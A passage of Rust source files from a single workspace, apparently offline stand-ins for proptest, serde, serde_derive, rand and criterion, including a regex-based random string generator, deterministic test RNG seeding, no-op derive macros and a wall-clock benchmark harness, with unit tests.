                .map(|(lo, hi)| *hi as u32 - *lo as u32 + 1)
                .sum();
            let mut pick = rng.inner().gen_range(0..total);
            for (lo, hi) in ranges {
                let span = *hi as u32 - *lo as u32 + 1;
                if pick < span {
                    out.push(
                        char::from_u32(*lo as u32 + pick)
                            .expect("class range stays in valid chars"),
                    );
                    return;
                }
                pick -= span;
            }
            unreachable!("class pick within total");
        }
        Node::Literal(c) => out.push(*c),
        Node::Printable => {
            // Mostly ASCII printable, occasionally multibyte.
            if rng.inner().gen_bool(0.05) {
                out.push(MULTIBYTE[rng.inner().gen_range(0..MULTIBYTE.len())]);
            } else {
                out.push(
                    char::from_u32(rng.inner().gen_range(0x20u32..0x7F)).expect("printable ASCII"),
                );
            }
        }
    }
}

/// Sample one string matching `pattern`.
pub fn sample_regex(pattern: &str, rng: &mut TestRng) -> String {
    let mut parser = Parser::new(pattern);
    let ast = parser.alternation();
    if parser.chars.next().is_some() {
        parser.unsupported("trailing input (unbalanced ')')");
    }
    let mut out = String::new();
    generate(&ast, rng, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_runner::TestRng;

    fn rng() -> TestRng {
        TestRng::for_case("string::tests", 0)
    }

    fn all_match<F: Fn(&str) -> bool>(pattern: &str, check: F) {
        let mut rng = rng();
        for _ in 0..200 {
            let s = sample_regex(pattern, &mut rng);
            assert!(check(&s), "pattern {pattern:?} produced {s:?}");
        }
    }

    #[test]
    fn classes_and_quantifiers() {
        all_match("[a-z]{1,8}", |s| {
            (1..=8).contains(&s.chars().count()) && s.chars().all(|c| c.is_ascii_lowercase())
        });
        all_match("[0-9]{8,20}", |s| {
            (8..=20).contains(&s.len()) && s.chars().all(|c| c.is_ascii_digit())
        });
        all_match("[a-zA-Z][a-zA-Z0-9]{2,7}", |s| {
            s.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
                && (3..=8).contains(&s.chars().count())
        });
    }

    #[test]
    fn alternation_picks_every_branch() {
        let mut rng = rng();
        let mut saw_alpha = false;
        let mut saw_digit = false;
        for _ in 0..200 {
            let s = sample_regex("[a-z]{1,8}|[0-9]{1,4}|[=+;(),]", &mut rng);
            assert!(!s.is_empty());
            saw_alpha |= s.chars().all(|c| c.is_ascii_lowercase());
            saw_digit |= s.chars().all(|c| c.is_ascii_digit());
        }
        assert!(saw_alpha && saw_digit);
    }

    #[test]
    fn optional_group() {
        all_match("[a-z]{1,6}( = [0-9]{1,4};)?", |s| !s.is_empty());
    }

    #[test]
    fn printable_star_has_no_control_chars() {
        all_match("\\PC*", |s| s.chars().all(|c| !c.is_control()));
        all_match("\\PC{0,400}", |s| s.chars().count() <= 400);
    }

    #[test]
    fn class_with_trailing_literal_dash() {
        all_match("[a-zA-Z0-9#@ _.%-]{1,64}", |s| {
            s.chars()
                .all(|c| c.is_ascii_alphanumeric() || "#@ _.%-".contains(c))
        });
    }

    #[test]
    fn space_to_tilde_covers_ascii_printable() {
        all_match("[ -~]{0,300}", |s| {
            s.chars().all(|c| (' '..='~').contains(&c))
        });
    }
}
