//! The [`Strategy`] trait and basic strategies.

use crate::test_runner::TestRng;
use rand::Rng;
use std::ops::Range;

/// A generator of random values of one type, mirroring
/// `proptest::strategy::Strategy` (minus shrinking).
pub trait Strategy {
    /// The type of generated values.
    type Value;

    /// Draw one value.
    fn sample(&self, rng: &mut TestRng) -> Self::Value;

    /// Transform every generated value through `f`, mirroring
    /// `proptest::strategy::Strategy::prop_map`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }
}

/// The strategy returned by [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;
    fn sample(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.sample(rng))
    }
}

impl<S: Strategy + ?Sized> Strategy for &S {
    type Value = S::Value;
    fn sample(&self, rng: &mut TestRng) -> Self::Value {
        (**self).sample(rng)
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn sample(&self, rng: &mut TestRng) -> $t {
                rng.inner().gen_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// A strategy that always produces a clone of one value, mirroring
/// `proptest::strategy::Just`.
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn sample(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// String literals are regex strategies, as in real proptest.
impl Strategy for str {
    type Value = String;
    fn sample(&self, rng: &mut TestRng) -> String {
        crate::string::sample_regex(self, rng)
    }
}
