//! Test-runner configuration and the deterministic per-case RNG.

use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

/// Configuration of a `proptest!` block, mirroring
/// `proptest::test_runner::Config`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProptestConfig {
    /// Number of sampled cases to run per property.
    pub cases: u32,
}

impl ProptestConfig {
    /// A configuration running `cases` cases.
    #[must_use]
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Real proptest defaults to 256; 128 keeps the full suite quick
        // while still exercising plenty of structure.
        ProptestConfig { cases: 128 }
    }
}

/// Deterministic RNG for one test case: seeded from the test's module path,
/// name, and case number, so every run replays the same inputs.
pub struct TestRng {
    rng: ChaCha8Rng,
}

/// The seed `TestRng::for_case` derives for case `case` of the named test.
#[must_use]
pub fn seed_for_case(test_name: &str, case: u32) -> u64 {
    // FNV-1a over the test name, mixed with the case number.
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in test_name.bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash ^ (u64::from(case) << 32 | u64::from(case))
}

impl TestRng {
    /// RNG for case `case` of the named test.
    #[must_use]
    pub fn for_case(test_name: &str, case: u32) -> Self {
        TestRng {
            rng: ChaCha8Rng::seed_from_u64(seed_for_case(test_name, case)),
        }
    }

    /// Access the underlying generator.
    pub fn inner(&mut self) -> &mut ChaCha8Rng {
        &mut self.rng
    }
}

/// Reports the failing case's number and seed when a property body panics.
///
/// Created at the top of every case by the `proptest!` macro; `Drop` runs
/// during unwinding and — only if the thread is panicking — prints the
/// context needed to replay the failure. Seeding is deterministic, so
/// re-running the same test replays the identical case sequence.
pub struct CaseGuard<'a> {
    test_name: &'a str,
    case: u32,
}

impl<'a> CaseGuard<'a> {
    /// Guard for case `case` of the named test.
    #[must_use]
    pub fn new(test_name: &'a str, case: u32) -> Self {
        CaseGuard { test_name, case }
    }
}

impl Drop for CaseGuard<'_> {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!(
                "proptest stand-in: {} failed at case {} (seed {:#018x}); \
                 seeding is deterministic — re-run the test to replay this case",
                self.test_name,
                self.case,
                seed_for_case(self.test_name, self.case),
            );
        }
    }
}
