//! Minimal local stand-in for the `serde` crate.
//!
//! The workspace derives `Serialize`/`Deserialize` as forward-looking
//! markers but never serializes through serde (there is no `serde_json`
//! dependency anywhere). The build environment has no registry access, so
//! this crate provides just enough surface for those derives to compile:
//! two marker traits and the corresponding no-op derive macros. Swapping in
//! the real serde later is a one-line change in the workspace manifest.

#![forbid(unsafe_code)]

pub use serde_derive::{Deserialize, Serialize};

/// Marker trait mirroring `serde::Serialize`. Carries no methods; the
/// workspace only uses it as a derive target.
pub trait Serialize {}

/// Marker trait mirroring `serde::Deserialize`. Carries no methods; the
/// workspace only uses it as a derive target.
pub trait Deserialize<'de>: Sized {}
