//! The no-op derives must compile for generic targets: the token-scan in
//! `serde_derive` has to carry lifetimes, type/const parameters (with
//! bounds, minus defaults) and `where` clauses onto the generated impls.

#![allow(dead_code)]

use serde::{Deserialize, Serialize};

#[derive(Serialize, Deserialize)]
struct Plain {
    x: u32,
}

#[derive(Serialize, Deserialize)]
struct Generic<'a, T: Clone = u8, const N: usize = 4> {
    items: &'a [T; N],
}

#[derive(Serialize, Deserialize)]
struct Callback<F: Fn(u8) -> u8> {
    f: F,
}

#[derive(Serialize, Deserialize)]
struct WithWhere<T>
where
    T: Iterator<Item = u8>,
{
    inner: T,
}

#[derive(Serialize, Deserialize)]
struct TupleWhere<F>(F)
where
    F: Fn(u8) -> u8;

#[derive(Serialize, Deserialize)]
enum GenericEnum<T> {
    One(T),
    Nothing,
}

fn assert_serialize<T: Serialize>() {}
fn assert_deserialize<'de, T: Deserialize<'de>>() {}

#[test]
fn generic_derives_compile() {
    assert_serialize::<Plain>();
    assert_serialize::<Generic<'static, u16, 2>>();
    assert_serialize::<Callback<fn(u8) -> u8>>();
    assert_serialize::<WithWhere<std::vec::IntoIter<u8>>>();
    assert_serialize::<TupleWhere<fn(u8) -> u8>>();
    assert_serialize::<GenericEnum<u8>>();
    assert_deserialize::<Plain>();
    assert_deserialize::<Generic<'static, u16, 2>>();
    assert_deserialize::<GenericEnum<u8>>();
}
