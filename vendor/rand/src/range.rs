//! Uniform sampling from ranges, the backend of [`Rng::gen_range`].

use super::RngCore;
use std::ops::{Range, RangeInclusive};

/// A range that can produce a uniformly distributed value of type `T`,
/// mirroring `rand::distributions::uniform::SampleRange`.
pub trait SampleRange<T> {
    /// Draw one value from the range.
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

/// Multiply-shift bounded sampling (Lemire's method without the rejection
/// step; the bias is ≤ span/2^64, irrelevant for simulation workloads).
fn bounded_u64<R: RngCore + ?Sized>(rng: &mut R, span: u64) -> u64 {
    debug_assert!(span > 0);
    ((u128::from(rng.next_u64()) * u128::from(span)) >> 64) as u64
}

macro_rules! impl_int_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end as i128 - self.start as i128) as u64;
                self.start.wrapping_add(bounded_u64(rng, span) as $t)
            }
        }

        impl SampleRange<$t> for RangeInclusive<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi as i128 - lo as i128) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                lo.wrapping_add(bounded_u64(rng, span + 1) as $t)
            }
        }
    )*};
}

impl_int_range!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleRange<f64> for Range<f64> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "gen_range: empty range");
        let unit = (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64);
        self.start + unit * (self.end - self.start)
    }
}

impl SampleRange<f32> for Range<f32> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f32 {
        assert!(self.start < self.end, "gen_range: empty range");
        let unit = (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32);
        self.start + unit * (self.end - self.start)
    }
}
