//! Minimal local stand-in for the `rand` 0.8 API surface this workspace
//! uses: `RngCore`, `SeedableRng::seed_from_u64`, `Rng::{gen_range,
//! gen_bool}` over integer/float ranges, and `seq::SliceRandom::shuffle`.
//!
//! The build environment has no crate-registry access, so the real rand
//! cannot be fetched; this crate keeps the exact import paths so swapping
//! the real crate back in later requires no source changes. Determinism
//! only has to hold *within* this implementation (the workspace seeds every
//! RNG explicitly), not against upstream rand's value stream.

#![forbid(unsafe_code)]

/// Low-level source of randomness, mirroring `rand::RngCore`.
pub trait RngCore {
    /// Next 32 random bits.
    fn next_u32(&mut self) -> u32;
    /// Next 64 random bits.
    fn next_u64(&mut self) -> u64;
    /// Fill `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        (**self).fill_bytes(dest);
    }
}

/// Construction from seeds, mirroring `rand::SeedableRng`.
pub trait SeedableRng: Sized {
    /// Raw seed type (a byte array for every generator in this workspace).
    type Seed: Sized + Default + AsMut<[u8]>;

    /// Build the generator from a raw seed.
    fn from_seed(seed: Self::Seed) -> Self;

    /// Build the generator from a `u64`, expanding it with SplitMix64 the
    /// same way rand 0.8 does (quality matters more than upstream-identical
    /// output here).
    fn seed_from_u64(mut state: u64) -> Self {
        let mut seed = Self::Seed::default();
        for chunk in seed.as_mut().chunks_mut(4) {
            // SplitMix64.
            state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^= z >> 31;
            let bytes = (z as u32).to_le_bytes();
            let n = chunk.len();
            chunk.copy_from_slice(&bytes[..n]);
        }
        Self::from_seed(seed)
    }
}

mod range;
pub use range::SampleRange;

/// User-facing random-value methods, mirroring `rand::Rng`.
pub trait Rng: RngCore {
    /// A uniformly random value in `range` (half-open or inclusive).
    ///
    /// # Panics
    ///
    /// Panics if the range is empty.
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
    {
        range.sample_single(self)
    }

    /// `true` with probability `p`.
    ///
    /// # Panics
    ///
    /// Panics if `p` is not within `[0, 1]`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p must be in [0, 1]");
        // 53 uniform mantissa bits, same resolution as rand's float path.
        let unit = (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64);
        unit < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

pub mod seq {
    //! Sequence helpers, mirroring `rand::seq`.

    use super::Rng;

    /// Slice extensions, mirroring `rand::seq::SliceRandom`.
    pub trait SliceRandom {
        /// Element type of the sequence.
        type Item;

        /// Fisher–Yates shuffle in place.
        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);

        /// A uniformly random element, or `None` if empty.
        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.gen_range(0..=i);
                self.swap(i, j);
            }
        }

        fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                Some(&self[rng.gen_range(0..self.len())])
            }
        }
    }
}

/// Commonly used re-exports, mirroring `rand::prelude`.
pub mod prelude {
    pub use super::seq::SliceRandom;
    pub use super::{Rng, RngCore, SeedableRng};
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A tiny deterministic generator for testing the trait plumbing.
    struct XorShift(u64);

    impl RngCore for XorShift {
        fn next_u32(&mut self) -> u32 {
            (self.next_u64() >> 32) as u32
        }
        fn next_u64(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = XorShift(0x1234_5678);
        for _ in 0..1000 {
            let v: usize = rng.gen_range(3..17);
            assert!((3..17).contains(&v));
            let w: u8 = rng.gen_range(0..=5);
            assert!(w <= 5);
            let f: f64 = rng.gen_range(1.0..2.0);
            assert!((1.0..2.0).contains(&f));
        }
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = XorShift(42);
        assert!(!(0..100).any(|_| rng.gen_bool(0.0)));
        assert!((0..100).all(|_| rng.gen_bool(1.0)));
    }

    #[test]
    fn shuffle_is_a_permutation() {
        use seq::SliceRandom;
        let mut v: Vec<u32> = (0..50).collect();
        let mut rng = XorShift(7);
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
    }
}
