//! No-op `Serialize`/`Deserialize` derives for the local serde stand-in.
//!
//! The derives emit empty marker-trait impls, so `#[derive(Serialize)]`
//! compiles exactly as with the real serde_derive as long as nothing calls
//! serialization methods (nothing in this workspace does). Generic types
//! are supported: parameters (lifetimes, types with bounds, consts) and any
//! `where` clause are carried over to the generated impl, with defaults
//! stripped. Implemented with a hand-rolled token scan instead of
//! `syn`/`quote`, because the build environment cannot fetch crates.

#![forbid(unsafe_code)]

use proc_macro::{Delimiter, Spacing, TokenStream, TokenTree};

/// The pieces of the derive target needed to emit a marker impl.
struct Target {
    /// Bare type name (`Foo`).
    name: String,
    /// Impl-side generic params, bounds kept, defaults stripped
    /// (`T : Clone`, `'a`, `const N : usize`).
    impl_params: Vec<String>,
    /// Bare argument names for the type position (`T`, `'a`, `N`).
    type_args: Vec<String>,
    /// The declaration's `where` clause, or empty.
    where_clause: String,
}

fn render(tokens: &[TokenTree]) -> String {
    let mut out = String::new();
    let mut glue = true;
    for tt in tokens {
        if !glue {
            out.push(' ');
        }
        out.push_str(&tt.to_string());
        // A Joint punct (the `'` of a lifetime, the first half of `::`,
        // `->`, …) must stay attached to the next token.
        glue = matches!(tt, TokenTree::Punct(p) if p.spacing() == Spacing::Joint);
    }
    out
}

/// Does this `>` close a generic bracket, or is it the tail of a joint
/// punct like `->` (possible inside `Fn(..) -> Ret` bounds)?
fn closes_bracket(prev: Option<&TokenTree>) -> bool {
    !matches!(prev, Some(TokenTree::Punct(p))
        if p.spacing() == Spacing::Joint && matches!(p.as_char(), '-' | '='))
}

/// The param with any top-level `= default` stripped, rendered.
fn param_impl_form(param: &[TokenTree]) -> String {
    let mut depth = 0usize;
    for (i, tt) in param.iter().enumerate() {
        if let TokenTree::Punct(p) = tt {
            match p.as_char() {
                '<' => depth += 1,
                '>' if closes_bracket(i.checked_sub(1).map(|k| &param[k])) => depth -= 1,
                '=' if depth == 0 && p.spacing() == Spacing::Alone => {
                    return render(&param[..i]);
                }
                _ => {}
            }
        }
    }
    render(param)
}

/// The bare name of a generic param: `'a` for lifetimes, the ident after
/// `const` for const params, the first ident otherwise.
fn param_name(param: &[TokenTree]) -> String {
    match param.first() {
        Some(TokenTree::Punct(p)) if p.as_char() == '\'' => match param.get(1) {
            Some(TokenTree::Ident(id)) => format!("'{id}"),
            _ => panic!("serde_derive: malformed lifetime parameter"),
        },
        Some(TokenTree::Ident(id)) if id.to_string() == "const" => match param.get(1) {
            Some(TokenTree::Ident(name)) => name.to_string(),
            _ => panic!("serde_derive: malformed const parameter"),
        },
        Some(TokenTree::Ident(id)) => id.to_string(),
        _ => panic!("serde_derive: malformed generic parameter"),
    }
}

fn parse_target(input: &TokenStream) -> Target {
    let trees: Vec<TokenTree> = input.clone().into_iter().collect();
    let mut i = 0;
    while i < trees.len() {
        if let TokenTree::Ident(id) = &trees[i] {
            let kw = id.to_string();
            if kw == "struct" || kw == "enum" || kw == "union" {
                break;
            }
        }
        i += 1;
    }
    i += 1;
    let Some(TokenTree::Ident(name)) = trees.get(i) else {
        panic!("serde_derive: could not find a type name in the derive input");
    };
    let name = name.to_string();
    i += 1;

    let mut params: Vec<Vec<TokenTree>> = Vec::new();
    if matches!(trees.get(i), Some(TokenTree::Punct(p)) if p.as_char() == '<') {
        i += 1;
        let mut depth = 1usize;
        let mut current: Vec<TokenTree> = Vec::new();
        while i < trees.len() {
            match &trees[i] {
                TokenTree::Punct(p) if p.as_char() == '<' => {
                    depth += 1;
                    current.push(trees[i].clone());
                }
                TokenTree::Punct(p)
                    if p.as_char() == '>'
                        && closes_bracket(i.checked_sub(1).map(|k| &trees[k])) =>
                {
                    depth -= 1;
                    if depth == 0 {
                        i += 1;
                        break;
                    }
                    current.push(trees[i].clone());
                }
                TokenTree::Punct(p) if p.as_char() == ',' && depth == 1 => {
                    params.push(std::mem::take(&mut current));
                }
                tt => current.push(tt.clone()),
            }
            i += 1;
        }
        if !current.is_empty() {
            params.push(current);
        }
    }

    // A `where` clause sits before the body braces (named structs, enums)
    // or between a tuple struct's parens and its `;`.
    let mut where_clause = String::new();
    while i < trees.len() {
        match &trees[i] {
            TokenTree::Ident(id) if id.to_string() == "where" => {
                i += 1;
                let start = i;
                while i < trees.len() {
                    match &trees[i] {
                        TokenTree::Group(g) if g.delimiter() == Delimiter::Brace => break,
                        TokenTree::Punct(p) if p.as_char() == ';' => break,
                        _ => i += 1,
                    }
                }
                where_clause = format!("where {}", render(&trees[start..i]));
                break;
            }
            _ => i += 1,
        }
    }

    Target {
        name,
        impl_params: params.iter().map(|p| param_impl_form(p)).collect(),
        type_args: params.iter().map(|p| param_name(p)).collect(),
        where_clause,
    }
}

/// `impl<extra, params> serde::Trait for Name<args> where ... {}`
fn marker_impl(target: &Target, trait_path: &str, extra_param: Option<&str>) -> TokenStream {
    let mut impl_params: Vec<String> = extra_param.map(str::to_string).into_iter().collect();
    impl_params.extend(target.impl_params.iter().cloned());
    let impl_generics = if impl_params.is_empty() {
        String::new()
    } else {
        format!("<{}>", impl_params.join(", "))
    };
    let type_args = if target.type_args.is_empty() {
        String::new()
    } else {
        format!("<{}>", target.type_args.join(", "))
    };
    format!(
        "impl{impl_generics} {trait_path} for {name}{type_args} {where_clause} {{}}",
        name = target.name,
        where_clause = target.where_clause,
    )
    .parse()
    .expect("generated marker impl parses")
}

/// Derive a no-op `serde::Serialize` marker impl.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    marker_impl(&parse_target(&input), "serde::Serialize", None)
}

/// Derive a no-op `serde::Deserialize` marker impl.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    marker_impl(
        &parse_target(&input),
        "serde::Deserialize<'de>",
        Some("'de"),
    )
}
