//! Minimal local stand-in for the `criterion` benchmarking crate.
//!
//! Implements the subset of the criterion 0.5 API this workspace's benches
//! use — `Criterion::benchmark_group`, `BenchmarkGroup::{sample_size,
//! measurement_time, warm_up_time, bench_function, bench_with_input,
//! throughput, finish}`, `BenchmarkId`, `Bencher::iter`, and the
//! `criterion_group!`/`criterion_main!` macros — measuring wall-clock time
//! with `std::time::Instant`. No statistics beyond mean/min/max, no plots,
//! no saved baselines; results print one line per benchmark:
//!
//! ```text
//! bench: clustering/indexed_1000 ... 12.345 ms/iter (min 12.1, max 12.9, 20 samples)
//! ```
//!
//! The real criterion can be swapped back in from the workspace manifest
//! once a crate registry is reachable.

#![forbid(unsafe_code)]

use std::fmt::Display;
use std::marker::PhantomData;
use std::time::{Duration, Instant};

pub use std::hint::black_box;

pub mod measurement {
    //! Measurement markers mirroring `criterion::measurement`.

    /// Wall-clock time measurement (the only one supported here).
    pub struct WallTime;
}

/// Identifier of a parameterized benchmark, mirroring
/// `criterion::BenchmarkId`.
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// Combine a function name and a parameter display into one id.
    pub fn new(function_name: impl Into<String>, parameter: impl Display) -> Self {
        BenchmarkId {
            id: format!("{}/{}", function_name.into(), parameter),
        }
    }
}

impl From<&str> for BenchmarkId {
    fn from(s: &str) -> Self {
        BenchmarkId { id: s.to_string() }
    }
}

impl From<String> for BenchmarkId {
    fn from(s: String) -> Self {
        BenchmarkId { id: s }
    }
}

/// Per-iteration timer handle passed to bench closures.
pub struct Bencher<'a> {
    samples: &'a mut Vec<Duration>,
    sample_size: usize,
    measurement_time: Duration,
    warm_up_time: Duration,
}

impl Bencher<'_> {
    /// Measure `routine`, called repeatedly: first for the warm-up window,
    /// then in timed batches until the measurement window or sample budget
    /// is exhausted.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Warm-up, also used to calibrate the batch size.
        let warm_start = Instant::now();
        let mut warm_iters: u32 = 0;
        while warm_start.elapsed() < self.warm_up_time || warm_iters == 0 {
            black_box(routine());
            warm_iters += 1;
        }
        let per_iter = warm_start.elapsed() / warm_iters;
        // Aim each sample at ~1/sample_size of the measurement window.
        let sample_target = self.measurement_time.max(Duration::from_millis(1))
            / u32::try_from(self.sample_size.max(1)).unwrap_or(1);
        let batch: u32 = if per_iter.is_zero() {
            1000
        } else {
            u32::try_from(
                (sample_target.as_nanos() / per_iter.as_nanos().max(1)).clamp(1, 1_000_000),
            )
            .unwrap_or(1)
        };

        let measure_start = Instant::now();
        for _ in 0..self.sample_size {
            let t = Instant::now();
            for _ in 0..batch {
                black_box(routine());
            }
            self.samples.push(t.elapsed() / batch);
            if measure_start.elapsed() > self.measurement_time * 2 {
                break; // Budget blown; keep whatever samples we have.
            }
        }
    }
}

/// A named group of benchmarks sharing timing configuration.
pub struct BenchmarkGroup<'a, M = measurement::WallTime> {
    name: String,
    sample_size: usize,
    measurement_time: Duration,
    warm_up_time: Duration,
    _criterion: &'a mut Criterion,
    _measurement: PhantomData<M>,
}

impl<M> BenchmarkGroup<'_, M> {
    /// Number of timed samples per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n;
        self
    }

    /// Total measurement window per benchmark.
    pub fn measurement_time(&mut self, t: Duration) -> &mut Self {
        self.measurement_time = t;
        self
    }

    /// Warm-up window per benchmark.
    pub fn warm_up_time(&mut self, t: Duration) -> &mut Self {
        self.warm_up_time = t;
        self
    }

    /// Accepted for API compatibility; throughput is not reported.
    pub fn throughput(&mut self, _t: Throughput) -> &mut Self {
        self
    }

    fn run_one(&mut self, id: String, f: impl FnOnce(&mut Bencher<'_>)) {
        let mut samples: Vec<Duration> = Vec::new();
        {
            let mut bencher = Bencher {
                samples: &mut samples,
                sample_size: self.sample_size,
                measurement_time: self.measurement_time,
                warm_up_time: self.warm_up_time,
            };
            f(&mut bencher);
        }
        report(&format!("{}/{}", self.name, id), &samples);
    }

    /// Run one benchmark closure.
    pub fn bench_function<F>(&mut self, id: impl Into<BenchmarkId>, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher<'_>),
    {
        let mut f = f;
        self.run_one(id.into().id, |b| f(b));
        self
    }

    /// Run one benchmark closure with an input value.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: impl Into<BenchmarkId>,
        input: &I,
        f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher<'_>, &I),
    {
        let mut f = f;
        self.run_one(id.into().id, |b| f(b, input));
        self
    }

    /// Finish the group (flush point in real criterion; a no-op here).
    pub fn finish(self) {}
}

/// Throughput declaration, accepted for API compatibility.
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

fn report(name: &str, samples: &[Duration]) {
    if samples.is_empty() {
        println!("bench: {name} ... no samples collected");
        return;
    }
    let total: Duration = samples.iter().sum();
    let mean = total / u32::try_from(samples.len()).unwrap_or(1);
    let min = samples.iter().min().copied().unwrap_or_default();
    let max = samples.iter().max().copied().unwrap_or_default();
    println!(
        "bench: {name} ... {} /iter (min {}, max {}, {} samples)",
        fmt_duration(mean),
        fmt_duration(min),
        fmt_duration(max),
        samples.len()
    );
    write_machine_readable(name, mean, min, max, samples.len());
}

/// When `KIZZLE_BENCH_OUT` names a file, every benchmark result is also
/// appended there as one JSON object per line — the machine-readable feed
/// the CI perf-regression gate (`kizzle-bench`'s `bench_check` binary)
/// compares against its committed thresholds. Append semantics let several
/// bench binaries share one output file within a CI job.
fn write_machine_readable(name: &str, mean: Duration, min: Duration, max: Duration, n: usize) {
    let Ok(path) = std::env::var("KIZZLE_BENCH_OUT") else {
        return;
    };
    if path.is_empty() {
        return;
    }
    let line = format!(
        "{{\"name\":\"{}\",\"mean_ns\":{},\"min_ns\":{},\"max_ns\":{},\"samples\":{}}}\n",
        name.replace('\\', "\\\\").replace('"', "\\\""),
        mean.as_nanos(),
        min.as_nanos(),
        max.as_nanos(),
        n
    );
    let appended = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(&path)
        .and_then(|mut file| std::io::Write::write_all(&mut file, line.as_bytes()));
    if let Err(err) = appended {
        eprintln!("criterion: cannot append to KIZZLE_BENCH_OUT={path}: {err}");
    }
}

fn fmt_duration(d: Duration) -> String {
    let nanos = d.as_nanos();
    if nanos >= 1_000_000_000 {
        format!("{:.3} s", d.as_secs_f64())
    } else if nanos >= 1_000_000 {
        format!("{:.3} ms", d.as_secs_f64() * 1e3)
    } else if nanos >= 1_000 {
        format!("{:.3} µs", d.as_secs_f64() * 1e6)
    } else {
        format!("{nanos} ns")
    }
}

/// Top-level benchmark driver, mirroring `criterion::Criterion`.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    /// Accepted for API compatibility with generated harness code.
    #[must_use]
    pub fn configure_from_args(self) -> Self {
        self
    }

    /// Open a named benchmark group with default timing configuration.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.into(),
            sample_size: 10,
            measurement_time: Duration::from_secs(3),
            warm_up_time: Duration::from_secs(1),
            _criterion: self,
            _measurement: PhantomData,
        }
    }
}

/// Declare a group of benchmark functions, mirroring
